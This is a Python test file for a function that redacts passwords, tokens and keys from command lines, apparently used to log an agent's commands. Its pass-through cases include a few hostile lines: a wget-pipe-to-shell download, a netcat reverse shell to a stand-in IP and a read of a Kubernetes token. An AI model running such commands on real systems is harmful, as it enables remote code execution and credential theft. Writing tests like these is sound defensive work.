import random
import shlex

import pytest
from tests.support.planted import COUNT, planted
from tests.unit.hostile import STRINGS

from agent.security.arguments import CUT, redacted


def test_an_ordinary_command_line_is_told_as_it_is() -> None:
    for line in (
        "nginx -g 'daemon off;'",
        "apt-get install -y nmap",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "sh -c 'id; uname -a'",
        "python3 -m http.server 8080",
        "tar -czf /tmp/out.tgz /etc",
        "mkdir -p /srv/data",
        "ps -p 4711",
        "docker run -p 8080:80 nginx",
        "find / -perm -4000 -uid 0 -path /srv -print0",
        "grep -E 'a|b' -c /etc/hosts",
        "sh -c 'wget -qO- http://x.example/y | sh'",
        "nc 192.0.2.1 4444 -e /bin/sh",
        "java -Xmx2g -jar app.jar --server.port=8080",
        "bash -i",
        "curl https://shop.example/status",
        "",
    ):
        assert redacted(line) == line


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("mysql -u root -phunter2 shop", "mysql -u REDACTED -pREDACTED shop"),
        ("mysql --password=hunter2 shop", "mysql --password=REDACTED shop"),
        ("mysql --password hunter2 shop", "mysql --password REDACTED shop"),
        ("psql postgres://web:hunter2@db/shop", "psql postgres://db/shop"),
        ("curl -u web:hunter2 https://x.example/", "curl -u REDACTED https://x.example/"),
        ("curl -H 'X-Api-Key: hunter2' x.example", "curl -H REDACTED x.example"),
        ("curl 'https://x.example/a?token=hunter2&page=2'", "curl 'https://x.example/a?token=REDACTED&page=2'"),
        ("sshpass -p hunter2 ssh host", "sshpass -p REDACTED ssh host"),
        ("redis-cli -a hunter2 ping", "redis-cli -a REDACTED ping"),
        ("env DB_PASSWORD=hunter2 ./run", "env DB_PASSWORD=REDACTED ./run"),
        ("vault login hunter2", "vault login REDACTED"),
        ("aws configure set aws_secret_access_key hunter2", "aws configure set aws_secret_access_key REDACTED"),
        ("sh -c 'echo hunter2 | passwd --stdin web'", "sh -c 'echo REDACTED | passwd --stdin REDACTED'"),
        ("sh -c 'mysql -phunter2 -e \"select 1\"'", "sh -c 'mysql -pREDACTED -e '\"'\"'select 1'\"'\"''"),
        ("kubectl --token hunter2 get pods", "kubectl --token REDACTED get pods"),
        ("--password --hunter2", "--password REDACTED"),
        ("env DB_PASS=hunter2 MYSQL_PWD=hunter2 ./run", "env DB_PASS=REDACTED MYSQL_PWD=REDACTED ./run"),
        ("redis-server --requirepass hunter2 --port 6379", "redis-server --requirepass REDACTED --port 6379"),
        ("keytool -storepass hunter2 -list", "keytool -storepass REDACTED -list"),
        ("curl -uweb:hunter2 https://x.example/", "curl -uREDACTED https://x.example/"),
        ("sh -c 'echo hunter2|sudo -S id'", "sh -c 'echo REDACTED -S id'"),
        ("sh -c 'passwd --stdin web <<< hunter2'", "sh -c 'passwd --stdin REDACTED <<< REDACTED'"),
        ("mysql -e \"ALTER USER web IDENTIFIED BY 'hunter2'\"", "mysql -e 'ALTER USER web IDENTIFIED BY REDACTED'"),
        ("openssl passwd -6 hunter2", "openssl passwd -6 REDACTED"),
        ("PGPASSWORD=hunter2 psql -h db", "PGPASSWORD=REDACTED psql -h db"),
        ("redis-cli auth default hunter2", "redis-cli auth REDACTED REDACTED"),
        ("redis-cli CONFIG SET requirepass hunter2", "redis-cli CONFIG SET REDACTED REDACTED"),
        ("htpasswd -nb web hunter2", "htpasswd REDACTED REDACTED REDACTED"),
        ("sqlplus scott/hunter2@db", "sqlplus REDACTED"),
        ("rabbitmqctl add_user web hunter2", "rabbitmqctl add_user REDACTED REDACTED"),
        ("/usr/bin/smbclient //files/a hunter2", "/usr/bin/smbclient REDACTED REDACTED"),
        ("mc alias set s3 http://s3 web hunter2", "mc alias set REDACTED REDACTED REDACTED REDACTED"),
        ("vault kv put secret/web key=hunter2", "vault kv put REDACTED REDACTED"),
        ("vault operator unseal hunter2", "vault operator unseal REDACTED"),
        (
            "kubectl create secret generic web --from-literal=any=hunter2",
            "kubectl create secret REDACTED REDACTED --from-literal=REDACTED",
        ),
        ("gh secret set X --body hunter2", "gh secret REDACTED REDACTED --body REDACTED"),
        ("npm config set //registry/:_authToken hunter2", "npm config set REDACTED REDACTED"),
        ("curl --cert web.pem:hunter2 x.example", "curl --cert REDACTED x.example"),
        ("grep -E a:b -c x", "grep -E a:b -c x"),
        ("snmpwalk -v2c -c hunter2 switch", "snmpwalk -v2c -c REDACTED switch"),
        ("ssh-keygen -N hunter2 -f key", "ssh-keygen -N REDACTED -f key"),
        ("rar a -hphunter2 a.rar", "rar a -hpREDACTED a.rar"),
        ("xfreerdp /u:web /p:hunter2 /v:host", "xfreerdp /u:web /p:REDACTED /v:host"),
        ("sh -c 'sudo -S id <<<hunter2'", "sh -c 'sudo -S id <<<REDACTED'"),
        ("sh -c 'htpasswd -b f web hunter2; ls /srv'", "sh -c 'htpasswd REDACTED REDACTED REDACTED REDACTED ls /srv'"),
        (
            "mysql -e \"SET PASSWORD FOR a = PASSWORD('hunter2')\"",
            "mysql -e 'SET PASSWORD REDACTED a = PASSWORD(REDACTED'",
        ),
        (
            "mysql -e \"INSERT INTO users (password) VALUES ('hunter2')\"",
            "mysql -e 'INSERT INTO users (password) REDACTED REDACTED'",
        ),
        (
            "mysql -e \"CREATE USER web IDENTIFIED WITH sha2 BY 'hunter2'\"",
            "mysql -e 'CREATE USER web IDENTIFIED WITH sha2 BY REDACTED'",
        ),
    ],
)
def test_what_stands_where_a_secret_is_expected_is_not_told(line: str, told: str) -> None:
    assert redacted(line) == told


def test_of_the_last_word_of_a_line_that_was_cut_nothing_is_told() -> None:
    assert redacted("ssh host hunt", is_cut=True) == f"ssh host {CUT}"
    assert redacted("sh -c 'mysql -phunt", is_cut=True) == f"sh -c {CUT}"
    assert redacted("sh -c 'a b' 'it'\"'\"'s hunt", is_cut=True).startswith("sh -c 'a b' ")
    assert "hunt" not in redacted("sh -c 'a b' 'it'\"'\"'s hunt", is_cut=True)
    assert redacted("", is_cut=True) == CUT


CUT_ANYWHERE = 12
"""Secrets, one of each kind, that are cut at every byte."""

FORMS = (
    lambda secret: ["tool", f"--password={secret}"],
    lambda secret: ["tool", "--api-key", secret],
    lambda secret: ["mysql", f"-p{secret}"],
    lambda secret: ["sshpass", "-p", secret, "ssh", "host"],
    lambda secret: ["curl", "-u", f"web:{secret}", "https://x.example/"],
    lambda secret: ["curl", "-H", f"Authorization: Bearer {secret}", "https://x.example/"],
    lambda secret: ["psql", f"postgres://web:{secret}@db.example/shop"],
    lambda secret: ["env", f"DB_PASSWORD={secret}", "./run"],
    lambda secret: ["sh", "-c", shlex.join(["mysql", f"--password={secret}"])],
    lambda secret: ["sh", "-c", shlex.join(["bash", "-c", shlex.join(["redis-cli", "-a", secret])])],
    lambda secret: ["curl", f"https://x.example/a?access_token={secret}&b=1"],
    lambda secret: ["sh", "-c", f"echo {shlex.quote(secret)} | passwd --stdin web"],
    lambda secret: ["htpasswd", "-b", "/srv/users", "web", secret],
    lambda secret: ["sh", "-c", f"PGPASSWORD={shlex.quote(secret)} psql -h db"],
    lambda secret: ["mc", "alias", "set", "s3", "http://s3.example", "web", secret],
    lambda secret: ["mysql", "-e", f"SET PASSWORD FOR web = PASSWORD({shlex.quote(secret)})"],
)


def test_three_hundred_planted_secrets_stay() -> None:
    """Each in every place where somebody puts one; those with a shape also where nobody expects them."""
    secrets = [secret for secret, _ in planted()]
    assert len(set(secrets)) == COUNT == 300
    for number, secret in enumerate(secrets):
        for form in FORMS:
            line = shlex.join(form(secret))
            told = redacted(line)
            assert secret not in told and secret[len(secret) // 3 :] not in told, (line, told)
            for length in range(len(line) - len(secret), len(line) if number < CUT_ANYWHERE else 0):
                cut = redacted(line[:length], is_cut=True)
                assert secret[: 2 * len(secret) // 3] not in cut, (line[:length], cut)


def test_a_secret_with_a_shape_stays_wherever_it_stands() -> None:
    shaped = [secret for number, (secret, _) in enumerate(planted()) if number % 12]  # the first kind is a word
    for secret in shaped:
        for line in (
            ["tool", secret],
            ["tool", f"x={secret}"],
            ["cp", f"/srv/{secret}/a", "/tmp"],
            ["sh", "-c", f"run {secret}"],
        ):
            told = redacted(shlex.join(line))
            assert secret not in told, (line, told)


def test_whatever_it_is_given_it_returns() -> None:
    dice = random.Random(23)
    for text in STRINGS:
        redacted(text)
        redacted(shlex.join(["tool", text]), is_cut=True)
    for _ in range(150):
        line = "".join(dice.choices("ab -'\"\\=:/@|%\n\t", k=dice.randrange(200)))
        redacted(line, is_cut=bool(dice.randrange(2)))


def test_names_without_end_before_a_value_are_no_way_around() -> None:
    """Neither an error, with which the record would be lost, nor the time of one look for each of them."""
    for sign in "=:":
        told = redacted(f"bash -c id {f'a{sign}' * 500}x")
        assert told.startswith("bash -c id a") and told.endswith("REDACTED") and len(told) < 64
    assert redacted("tool a=b:c:d:e") == "tool a=b:c:d:e"
